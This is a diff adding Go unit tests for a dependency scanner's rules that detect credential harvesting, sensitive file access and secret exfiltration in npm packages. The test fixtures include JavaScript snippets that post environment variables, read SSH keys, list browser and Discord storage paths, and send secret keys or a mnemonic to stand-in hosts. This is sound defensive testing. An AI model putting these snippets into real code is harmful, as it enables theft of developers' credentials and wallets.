@@ -1,0 +1,36 @@
+package cred
+
+import (
+	"testing"
+
+	"github.com/depfence/depfence/internal/finding"
+	rt "github.com/depfence/depfence/internal/rules/rulestest"
+)
+
+func TestEnvHarvest(t *testing.T) {
+	rt.Check(t, EnvHarvest{}, []rt.Case{
+		{"stringify", map[string]string{"index.js": `fetch(u, {method:"POST", body: JSON.stringify(process.env)})`}, finding.SeverityHigh},
+		{"object_keys", map[string]string{"index.js": `for (const k of Object.keys(process.env)) {}`}, finding.SeverityMedium},
+		{"tokens", map[string]string{"index.js": `const a = process.env.NPM_TOKEN, b = process.env.GITHUB_TOKEN, c = process.env.AWS_SECRET_ACCESS_KEY`}, finding.SeverityMedium},
+		{"spawn_env_spread", map[string]string{"index.js": `require("child_process").spawn("node", [], {env: {...process.env, X: "1"}})`}, finding.SeverityNone},
+		{"node_env", map[string]string{"index.js": `if (process.env.NODE_ENV === "production") {}`}, finding.SeverityNone},
+	})
+}
+
+func TestFileAccess(t *testing.T) {
+	rt.Check(t, FileAccess{}, []rt.Case{
+		{"ssh_key_read", map[string]string{"index.js": `const fs=require("fs");fs.readFileSync(require("path").join(require("os").homedir(), ".ssh/id_rsa"))`}, finding.SeverityHigh},
+		{"browser_store_list", map[string]string{"index.js": `const t=["Google/Chrome/User Data/Default","BraveSoftware/Brave-Browser/User Data","discord/Local Storage/leveldb"]`}, finding.SeverityHigh},
+		{"npmrc_mention", map[string]string{"index.js": `const name = ".npmrc"`}, finding.SeverityLow},
+		{"unrelated_paths", map[string]string{"index.js": `require("fs").readFileSync("./config/settings.json")`}, finding.SeverityNone},
+	})
+}
+
+func TestSecretExfil(t *testing.T) {
+	rt.Check(t, SecretExfil{}, []rt.Case{
+		{"helper_sender", map[string]string{"index.js": `class L { static q(k) { fetch("https://collect.example.invalid/q", {method:"POST", headers:{"x-id": k}}) } }
+function load(secretKey) { L.q(secretKey) }`}, finding.SeverityCritical},
+		{"direct", map[string]string{"index.js": `axios.post("https://x.invalid", { mnemonic })`}, finding.SeverityCritical},
+		{"local_signing", map[string]string{"index.js": `function sign(msg, secretKey) { return nacl.sign(msg, secretKey) } fetch("https://rpc.example.com", {body: signature})`}, finding.SeverityNone},
+	})
+}
